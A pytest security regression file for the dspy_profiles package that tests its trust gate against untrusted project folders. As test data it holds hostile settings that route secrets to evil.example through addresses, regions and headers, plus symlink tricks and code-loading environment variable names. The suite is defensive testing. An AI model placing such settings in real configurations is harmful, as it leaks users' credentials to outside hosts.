"""What a stranger's folder could do in spite of the gate. Each of these acted once."""

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.trust.conftest import Done, Outside

from dspy_profiles.run._command_line import code_of
from dspy_profiles.secrets import is_never_set, needs_trust

Write = Callable[[Path | str, str], Path]
USE = "import dspy_profiles\nwith dspy_profiles.profile('x') as p:\n    print(p.name)\n"
LM = '[x]\nlm.model = "openai/gpt-4o"\nlm.api_key = "none"\n'
ENGINE = '[x]\nprovider.class = "trap.Engine"\n'
COMMAND = str(Path(sys.executable).with_name("dspy-profiles"))

FROM_A_DATACLASS = """
from dataclasses import dataclass
import dspy_profiles

@dataclass
class Options:
    name: str

    def __post_init__(self):
        with dspy_profiles.profile(self.name) as p:
            print(p.name)

Options("x")
"""


def test_a_file_that_is_named_like_generated_code_is_no_code(
    trap: Path, mark: Path, write: Write, outside: Outside, project: Path, tool: Path
) -> None:
    """A file called `<string>` was taken for the code of every dataclass: all was imported."""
    write("profiles.toml", ENGINE)
    for name in ("<string>", "<stdin>", "<frozen runpy>"):
        write(name, "anything")
    assert "errors.Untrusted" in outside(FROM_A_DATACLASS).stderr
    done = subprocess.run(
        [sys.executable, "-m", tool.stem, USE],
        cwd=project,
        env={**os.environ, "PYTHONPATH": str(tool.parent)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "errors.Untrusted" in done.stderr
    assert not mark.exists()


def test_a_link_to_a_trusted_file_is_not_trusted(
    trap: Path, mark: Path, tmp_path: Path, project: Path, write: Write, outside: Outside
) -> None:
    """The modules that a trusted file names were imported from the folder of a link to it."""
    trusted = write(tmp_path / "mine" / "profiles.toml", ENGINE)
    trust = [COMMAND, "trust", str(trusted)]
    assert subprocess.run(trust, capture_output=True, check=False).returncode == 0
    (project / "profiles.toml").symlink_to(trusted)
    assert "errors.Untrusted" in outside(USE).stderr
    assert not mark.exists()


REFUSED = {
    "a server whose certificate is not checked": ("lm.ssl_verify = false", "send a secret"),
    "an address in two fallbacks": (
        'lm.model = "huggingface/${A_:-https}:${B_:-//evil.example}"',
        'send a secret to "huggingface/${A_:-https}:${B_:-//evil.example}"',
    ),
    "a server in a region": (
        'lm.model = "bedrock/a"\nlm.aws_region_name = "evil.example/"',
        'send a secret to "evil.example/"',
    ),
    "a server in a location": (
        'lm.model = "vertex_ai/a"\nlm.vertex_location = "evil.example/"',
        'send a secret to "evil.example/"',
    ),
    "another host in a header": ('lm.extra_headers.Host = "evil.example"', "evil.example"),
    "a logger of LiteLLM": ('lm.success_callback = ["langfuse"]', 'import "langfuse"'),
    "a model in this process": ('lm.model = "vllm/./evil"', 'import "vllm/./evil"'),
    "a file in a fallback": (
        'lm.model = "vertex_ai/a"\nlm.vertex_credentials = "${UNSET_:-/home/you/key.json}"',
        "read",
    ),
    "a secret in a header": ('lm.extra_headers.X-Other = "${CANARY_TOKEN}"', "send a secret"),
    "a secret in a body": ('lm.extra_body.a.b = "env:CANARY_TOKEN"', "send a secret"),
    "a secret as a user": ('lm.user = "keyring:service/you"', "send a secret"),
    "a secret in the name of a model": ('lm.model = "openai/${CANARY_TOKEN}"', "send a secret"),
    "a variable that LiteLLM reads": ('lm.user = "os.environ/CANARY_TOKEN"', "send a secret"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_an_lm_takes_no_other_way_out(
    what: str, stranger: None, write: Write, outside: Outside, command: Callable[..., Done]
) -> None:
    lines, wants = REFUSED[what]
    own_key = "" if wants.startswith("send") else 'lm.api_key = "none"\n'
    model = "" if "lm.model" in lines else 'lm.model = "openai/gpt-4o"\n'
    write("profiles.toml", f"[x]\n{model}{own_key}{lines}\n")
    done = outside(USE, CANARY_TOKEN="canary-7f3a9c1e")
    assert "errors.Untrusted" in done.stderr
    assert wants in done.stderr
    assert "not trusted" in command("list").stdout
    assert command("trust").returncode == 0
    assert "errors.Untrusted" not in outside(USE, CANARY_TOKEN="canary-7f3a9c1e").stderr


@pytest.mark.parametrize(
    "lines",
    [
        "lm.ssl_verify = true",
        'lm.aws_region_name = "eu-central-1"',
        'lm.vertex_location = "us-central1"',
        'lm.extra_headers.Authorization = "Bearer ${CANARY_TOKEN}"',
        'lm.extra_headers.X-Title = "host"',
        'lm.organization = "${CANARY_ORGANIZATION}"',
        'lm.user = "${CANARY_ORGANIZATION:-me}"',
    ],
)
def test_what_sends_nothing_elsewhere_asks_nobody(
    lines: str, stranger: None, write: Write, outside: Outside, command: Callable[..., Done]
) -> None:
    write("profiles.toml", f"{LM}{lines}\n")
    done = outside(USE, CANARY_TOKEN="canary-7f3a9c1e", CANARY_ORGANIZATION="org")
    assert done.stdout == "x\n", done.stderr
    assert "not trusted" not in command("list").stderr


def test_a_path_that_libraries_read_counts_from_where_they_start(
    stranger: None, tmp_path: Path, write: Write, tool: Path
) -> None:
    """LiteLLM opened the user's own file of that name in the working directory."""
    file = write(
        "profiles.toml", '[x]\nlm.model = "vertex_ai/a"\nlm.vertex_credentials = "c.json"\n'
    )
    done = subprocess.run(
        [sys.executable, str(tool), USE],
        cwd=tmp_path,
        env={**os.environ, "DSPY_PROFILES_PATH": str(file)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert 'wants to read "c.json"' in done.stderr


@pytest.mark.parametrize("reference", ["${WHERE}", "env:WHERE"])
@pytest.mark.parametrize("key", ["lm.api_base", "lm.vertex_credentials"])
def test_trust_covers_the_variables_that_lead_somewhere(
    key: str,
    reference: str,
    stranger: None,
    tmp_path: Path,
    write: Write,
    outside: Outside,
    command: Callable[..., Done],
) -> None:
    """`trust` left the `.env` out for ever, or, if it had something else, whatever it became."""
    write("profiles.toml", f'{LM}{key} = "{reference}"\n')
    write(".env", f"WHERE={tmp_path}/a\nSOME_KEY=abc\n")
    assert "errors.Untrusted" in outside(USE).stderr
    assert "trusted: .env" in command("trust").stdout
    assert outside(USE).stdout == "x\n"
    write(".env", f"WHERE={tmp_path}/a\nSOME_KEY=other\nDEBUG=yes\n")
    assert outside(USE).stdout == "x\n"
    write(".env", f"WHERE={tmp_path}/b\n")
    assert "errors.Untrusted" in outside(USE).stderr


def test_a_variable_of_a_strangers_profile_is_no_address(
    stranger: None, home: Path, write: Write, outside: Outside
) -> None:
    """A profile that does nothing but set a variable gave your own its address."""
    write(
        home / ".dspy" / "profiles.toml",
        '[prod]\nlm.model = "openai/gpt-4o"\nlm.api_key = "${KEY}"\nlm.api_base = "${GATEWAY}"\n',
    )
    write("profiles.toml", f'{LM}env.GATEWAY = "http://evil.example"\n')
    done = outside(USE + USE.replace("'x'", "'prod'"), KEY="canary-7f3a9c1e")
    assert done.stdout == "x\n"
    assert 'send a secret to "${GATEWAY}, for lm.api_base"' in done.stderr


def test_trust_shows_no_secret_of_an_env_file(
    stranger: None, write: Write, command: Callable[..., Done]
) -> None:
    write("profiles.toml", f'{LM}lm.api_base = "${{WHERE}}"\n')
    write(".env", "WHERE=http://mine\nA_KEY=x\nA_API_KEY=canary/1\nURL=pg://you:canary2@host\n")
    done = command("trust")
    assert "sets http://mine" in done.stdout
    assert "canary" not in done.stdout + command("trust", "--json").stdout


def test_an_env_file_that_is_a_link_is_read_once_it_is_trusted(
    stranger: None, tmp_path: Path, project: Path, write: Write, command: Callable[..., Done]
) -> None:
    """A link to the `.env` of another checkout stayed unread, and nothing could be trusted."""
    write(tmp_path / "main.env", "CANARY_TOKEN=canary-7f3a9c1e\n")
    (project / ".env").symlink_to(tmp_path / "main.env")
    write("profiles.toml", LM.replace("none", "${CANARY_TOKEN}"))
    assert command("secrets", "check", "x").returncode != 0
    assert "trusted: .env" in command("trust").stdout
    assert command("secrets", "check", "x").returncode == 0


def test_another_parent_of_a_trusted_profile_asks_again(
    stranger: None, home: Path, write: Write, outside: Outside, command: Callable[..., Done]
) -> None:
    """A pull could send any key of your own profiles to an address that you had trusted."""
    write(home / ".dspy" / "profiles.toml", '[prod]\nlm.api_key = "${CANARY_TOKEN}"\n')
    mine = '[x]\nlm.model = "openai/gpt-4o"\nlm.api_base = "http://gateway.example"\n'
    write("profiles.toml", mine)
    assert command("trust").returncode == 0
    write("profiles.toml", mine.replace("[x]", '[x]\nextends = "prod"'))
    assert "errors.Untrusted" in outside(USE, CANARY_TOKEN="canary-7f3a9c1e").stderr


@pytest.mark.parametrize("words", ["copy x z --user", "import profiles.toml --user"])
def test_no_command_copies_a_strangers_acts_into_your_own_file(
    words: str, trap: Path, home: Path, write: Write, command: Callable[..., Done]
) -> None:
    """A copy in your own file acted at once, in every folder."""
    write("profiles.toml", ENGINE)
    done = command(*words.split())
    assert (done.returncode, "provider.class" in done.stderr) == (7, True)
    assert not (home / ".dspy" / "profiles.toml").exists()
    assert command("trust").returncode == 0
    assert command(*words.split()).returncode == 0


def test_an_export_is_trusted_no_more_than_its_source(
    trap: Path, write: Write, command: Callable[..., Done]
) -> None:
    write("profiles.toml", ENGINE)
    assert command("export", "x", "--out", "copy.toml").returncode == 0
    assert command("trust", "--list").stdout == "nothing is trusted\n"


@pytest.mark.parametrize(
    "name",
    [
        "AWS_ENDPOINT_URL_STS",
        "AZURE_AUTHORITY_HOST",
        "DASHSCOPE_API_BASE_IMAGE",
        "GCE_METADATA_HOST",
        "NETRC",
        "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES",
        "CLOUDSDK_CONFIG",
        "SSL_VERIFY",
        "DATABRICKS_HOST",
        "UV_INDEX",
        "LITELLM_MODEL_COST_MAP_URL",
    ],
)
def test_variables_that_lead_elsewhere_need_trust(name: str) -> None:
    assert needs_trust(name)


@pytest.mark.parametrize(
    "name", ["GCONV_PATH", "OPENSSL_MODULES", "JAVA_TOOL_OPTIONS", "NODE_PATH"]
)
def test_variables_that_load_code_are_never_set(name: str) -> None:
    assert is_never_set(name)


@pytest.mark.parametrize("name", ["AWS_REGION", "VERTEXAI_LOCATION", "SNOWFLAKE_ACCOUNT_ID"])
def test_a_part_of_an_address_is_a_plain_word(
    name: str, stranger: None, write: Write, outside: Outside
) -> None:
    code = f"{USE}\nimport os\nprint(os.environ.get({name!r}))"
    write("profiles.toml", LM)
    write(".env", f"{name}=eu-central-1\n")
    assert outside(code).stdout == "x\neu-central-1\n"
    write(".env", f"{name}=evil.example/\n")
    assert outside(code).stdout == "x\nNone\n"


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ("python -um app", ["app.py", "app/__main__.py"]),
        ("python -mapp", ["app.py", "app/__main__.py"]),
        ("python -uX dev app.py", ["app.py"]),
        ("python -P -m json", []),
        ("python -Im json", []),
        ("python -c pass app.py", []),
    ],
)
def test_run_knows_whose_code_python_starts(words: str, code: list[str]) -> None:
    """`python -Im json` counted as a file of the project that is called `json`."""
    assert [str(path) for path in code_of(words.split())] == code


@pytest.mark.parametrize(
    ("setting", "words"),
    [
        (r'store = "sqlite:a\u0000"', "results list"),
        (r'env-file = ["a\u0000"]', "list"),
        (r'cassette-dir = "a\u0000"', "cassettes list"),
    ],
)
def test_a_setting_with_a_nul_is_an_error_of_ours(
    setting: str, words: str, stranger: None, write: Write, command: Callable[..., Done]
) -> None:
    write("pyproject.toml", f"[tool.dspy-profiles]\n{setting}\n")
    done = command(*words.split())
    assert "contains a NUL character" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("name", "text"),
    [("profiles.toml", '[far.lm]\nmodel = "m"\n'), ("pyproject.toml", "[tool.dspy-profiles]\n")],
)
def test_a_link_out_of_the_project_is_read_once_it_is_trusted(
    stranger: None,
    tmp_path: Path,
    project: Path,
    command: Callable[..., Done],
    name: str,
    text: str,
) -> None:
    """Before: `list` read whichever file a cloned link led to."""
    outside = tmp_path / "outside.toml"
    outside.write_text(text)
    (project / name).symlink_to(outside)
    refused = command("list")
    assert refused.returncode == 7
    assert f"{name} is a link out of the project, to {outside}" in refused.stderr
    assert "trust" in refused.stderr
    assert "far" not in refused.stdout
    assert command("trust").returncode == 0
    assert command("list").returncode == 0
    (project / name).unlink()
    elsewhere = tmp_path / "elsewhere.toml"
    elsewhere.write_text(text)
    (project / name).symlink_to(elsewhere)
    assert command("list").returncode == 7
